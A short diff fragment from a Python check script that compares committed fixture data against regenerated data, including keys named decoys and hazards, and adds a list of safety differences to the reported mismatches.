         a = {m["path"]: m for m in committed["models"]}
         b = {m["path"]: m for m in fresh["models"]}
         bad = sorted(set(a) ^ set(b)) + sorted(k for k in set(a) & set(b) if a[k] != b[k])
         for k in ("directory_models", "decoys", "hazards"):
             if committed[k] != fresh[k]:
                 bad.append(k)
+        bad += bad_safety
         for k in bad:
             print(f"differs: {k}", file=sys.stderr)
         print("check: " + ("OK, regenerated fixtures match expected.json" if not bad else f"{len(bad)} differences"))
